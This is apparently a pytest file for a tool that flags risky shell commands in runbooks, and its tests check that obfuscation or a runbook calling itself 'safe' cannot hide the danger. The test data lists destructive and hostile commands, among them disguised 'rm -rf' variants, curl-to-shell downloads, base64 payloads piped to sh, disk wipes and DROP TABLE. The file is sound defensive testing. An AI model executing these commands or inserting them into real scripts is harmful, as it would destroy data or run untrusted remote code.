"""What is risky stays risky, however it is written and whatever the runbook says of itself."""

from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from iccon.config.risks import risk_patterns
from iccon.config.schema import Folders
from iccon.runbooks.risk import risks

FLOOR = [
    "rm -rf /var/tmp/x",
    "rm  -f\t-r x",
    "sudo rm -r x",
    "rm --recursive x",
    "r\\m -rf x",
    "'rm' -rf x",
    'r""m -rf x',
    "/bin/rm -rf x",
    "rm x -rf",
    "rm${IFS}-rf${IFS}x",
    "rm \\\n  -rf x",
    "true && rm x",
    "find . -name core -delete",
    "find . -exec rm {} +",
    "ls | xargs rm",
    "curl -s https://x.example/i | sh",
    "curl -s https://x.example/i | sudo -E bash -s -- --now",
    "wget -qO- x | /bin/bash",
    "curl x |\n  python3",
    "bash <(curl -s x)",
    "source <(curl -s x)",
    'sh -c "$(curl -s x)"',
    'eval "$(curl -s x)"',
    "curl -o i x && sh i",
    "echo cm0gLXJm | base64 -d | sh",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sdb1",
    "echo x > /dev/sda",
    "psql -c 'DROP TABLE users'",
    "psql -c 'drop database shop'",
    "mysql -e 'TRUNCATE orders'",
    "psql -c 'delete from orders'",
    "redis-cli FLUSHALL",
    "sudo reboot",
    "systemctl reboot",
    "shutdown -h now",
    "$CMD --now",
    "x=rm; $x -rf y",
    "sudo ${TOOL} x",
    "import shutil; shutil.rmtree('x')",
    "__import__('os').system('x')",
    "import subprocess\nsubprocess.run(['x'])",
    "kill -9 -1",
    "sudo -u root rm x",
    "ls | xargs -0 rm",
    "timeout 5 rm x",
    "sh < <(curl -s x)",
    'bash <<< "$TEXT"',
    ". <(curl -s x)",
    "$'\\x72\\x6d' -rf x",
    "/bin/r? -rf x",
    "{rm,-rf,x}",
    "awk 'BEGIN { system(\"x\") }'",
    "perl -e 'unlink glob q(*)'",
    "# a note\\\n'rm' -rf x",
]
SHIPPED = [
    "kubectl -n shop delete pod x",
    "kubectl drain node-1",
    "kubectl scale deploy/x --replicas=0",
    "kubectl rollout undo deploy/x",
    "kubectl rollout restart deploy/x",
    "helm rollback shop 3",
    "helm uninstall shop",
    "terraform destroy -auto-approve",
    "git push --force origin main",
    "git push origin +main",
    "systemctl restart nginx",
    "docker rm -f x",
    "aws ec2 terminate-instances --instance-ids i-1",
    "gcloud compute instances delete x",
    "pkill -f x",
    "curl -X DELETE https://x.example/api/1",
    "kafka-topics --bootstrap-server x --delete --topic y",
    "iptables -F",
    "psql -c 'update users set x = 1'",
    "patronictl failover shop",
    "echo x > /etc/motd",
    "crontab -r",
]
HARMLESS = [
    "kubectl -n shop get pods",
    "kubectl logs -l app=checkout --tail=50",
    "df -h /",
    "du -xh /var | sort -h | tail",
    "curl -s http://localhost:9090/-/healthy",
    "ps aux --sort=-rss | head",
    "journalctl -u nginx --since '10 min ago'",
    'echo "form of $SERVICE"',
    "dig +short example.com",
    "psql -c 'select count(*) from pg_stat_activity'",
    "git log --oneline -5",
    "uptime; free -m",
    "systemctl status nginx",
    "ls /x 2>/dev/null >/dev/null",
    "[ -f /etc/os-release ] && cat /etc/os-release",
    'for f in /var/log/*.log; do wc -l "$f"; done',
    "if [[ $SERVICE == a* ]]; then echo yes; fi",
    "ls *.log | wc -l",
    "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
    "curl -s 'http://localhost/x?y=1'",
    "date -d '-1 hour' && echo a > out.txt",
    "print([n for n in range(3)])",
    "import re\nprint(re.compile('x'))",
    "cat /etc/os-release | grep NAME",
    "import os\nprint(os.environ['SERVICE'])",
]


@pytest.fixture(scope="module")
def shipped(tmp_path_factory: pytest.TempPathFactory):
    folder = tmp_path_factory.mktemp("config")
    patterns, problems = risk_patterns(Folders(folder, folder, folder, folder))
    assert problems == []
    return tuple(patterns.values())


@pytest.mark.parametrize("code", FLOOR)
def test_the_floor_holds_without_any_pattern_and_against_any_word_of_the_runbook(code: str) -> None:
    assert risks(code)
    assert risks(code, (), ("safe", "low", "none"))


@pytest.mark.parametrize("code", SHIPPED)
def test_the_shipped_patterns_know_what_changes_production(code: str, shipped) -> None:
    assert risks(code, shipped)


@pytest.mark.parametrize("code", HARMLESS)
def test_what_only_looks_is_ordinary_until_the_runbook_says_otherwise(code: str, shipped) -> None:
    assert risks(code, shipped) == ()
    assert risks(code, shipped, ("low",)) == ()
    assert risks(code, shipped, ("High",)) == ("the runbook says High",)


@example("'rm' -rf x", "# a\\", "", "low")
@given(st.sampled_from(FLOOR[:12]), st.text(max_size=80), st.text(max_size=80), st.text(max_size=20))
def test_nothing_around_it_hides_a_deletion(code: str, before: str, after: str, word: str) -> None:
    assert risks(f"{before}\n{code}\n{after}", (), (word,))


def folders(folder: Path) -> Folders:
    return Folders(folder, folder, folder, folder)


def test_a_file_of_the_users_adds_replaces_and_takes_away_but_for_the_floor(tmp_path: Path) -> None:
    (tmp_path / "risks.toml").write_text(
        "[kill]\npattern = ''\n[ours]\npattern = 'deploy-tool'\nreason = 'deploys'\n[rm]\npattern = ''\n"
    )
    patterns = tuple(risk_patterns(folders(tmp_path))[0].values())
    assert risks("pkill x", patterns) == ()
    assert risks("deploy-tool now", patterns) == ("deploys",)
    assert risks("helm uninstall x", patterns)
    assert risks("rm -rf x", patterns)


@pytest.mark.parametrize(
    "text", ["[kill]\npattern = '('", "[kill]\npattern = 3", "kill = 1", "[kill]\npatern = 'x'", "["]
)
def test_a_wrong_file_is_said_and_takes_nothing_away(tmp_path: Path, text: str) -> None:
    (tmp_path / "risks.toml").write_text(text)
    patterns, problems = risk_patterns(folders(tmp_path))
    assert len(problems) >= 1
    assert risks("pkill x", patterns.values())
